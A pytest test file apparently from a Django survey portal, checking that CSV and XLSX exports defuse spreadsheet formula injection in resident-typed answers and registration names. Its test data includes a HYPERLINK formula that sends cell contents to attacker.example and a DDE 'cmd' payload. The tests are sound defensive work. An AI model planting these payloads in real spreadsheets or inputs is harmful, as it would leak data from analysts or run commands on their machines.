"""What residents type never runs as a formula in an analyst's spreadsheet: every CSV
and XLSX export defuses text that Excel or LibreOffice would read as one."""

import csv
import io
import random

import pytest
from openpyxl import load_workbook

from portal.streaming import csv_stream, formula_like, spreadsheet_safe
from surveys.demo import fake_responses
from surveys.models import Answer
from tests.factories import community, event, registration, survey

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Click")'
PAYLOADS = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1", "＝1+1"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_formula_like_text_gets_an_apostrophe(text):
    assert formula_like(text)
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["-5", "+3.2", "-1e3", "Шахрайство", "a=b", "", 5, None, "2026-11-11"]
)
def test_numbers_and_plain_text_are_left_as_they_are(value):
    assert not formula_like(value)
    assert spreadsheet_safe(value) == value


def test_every_csv_cell_is_defused():
    text = "".join(csv_stream([["name", "note"], [LINK, "-5"]])).lstrip("\ufeff")

    rows = list(csv.reader(io.StringIO(text)))

    assert rows[1] == ["'" + LINK, "-5"]


@pytest.fixture
def answered():
    item = survey()
    questions = {q.code: q for q in item.questions.prefetch_related("options")}
    fake_responses(item, questions, 6, random.Random(3), [community()])
    # An "other, please specify" answer, as a resident types it.
    problems = item.questions.get(code="problems")
    first = item.responses.all()[0]
    Answer.objects.create(response=first, question=problems, text=LINK)
    return item


@pytest.fixture
def analyst(client, role_user):
    client.force_login(role_user("analyst"))
    return client


def export(client, item, **choice):
    data = {"format": "csv", "layout": "wide", "language": "en", **choice}
    response = client.post(f"/en/admin/surveys/survey/{item.pk}/export/", data)
    assert response.status_code == 200
    return b"".join(response.streaming_content)


@pytest.mark.parametrize("layout", ["wide", "long"])
def test_a_survey_csv_shows_a_typed_formula_as_text(analyst, answered, layout):
    text = export(analyst, answered, layout=layout).decode("utf-8").lstrip("\ufeff")

    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]

    assert "'" + LINK in cells
    assert LINK not in cells


@pytest.mark.parametrize("layout", ["wide", "long"])
def test_a_survey_xlsx_holds_a_typed_formula_as_text(analyst, answered, layout):
    content = export(analyst, answered, layout=layout, format="xlsx")
    book = load_workbook(io.BytesIO(content))

    cells = [cell for row in book["responses"].iter_rows() for cell in row]
    typed = [cell for cell in cells if cell.value == LINK]

    # As typed, stored as text, marked as text for when the cell is edited; no
    # cell of the workbook is a formula.
    assert typed
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in typed)
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_the_registrations_csv_shows_a_typed_formula_as_text(client, role_user):
    item = event()
    person = registration(item, 1)
    person.name = LINK
    person.save()
    client.force_login(role_user("coordinator"))

    response = client.get(f"/en/admin/events/event/{item.pk}/registrations.csv")
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")

    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + LINK in cells and LINK not in cells
